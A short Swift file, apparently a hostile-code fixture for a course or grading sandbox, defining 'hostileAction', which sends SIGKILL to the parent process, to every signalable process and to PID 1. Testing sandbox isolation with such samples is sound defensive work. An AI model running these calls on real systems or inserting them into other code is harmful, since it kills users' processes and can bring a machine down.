import CourseKit
import Foundation

func hostileAction(_ x: Vector) {
    kill(getppid(), SIGKILL)
    kill(-1, SIGKILL)
    kill(1, SIGKILL)
}
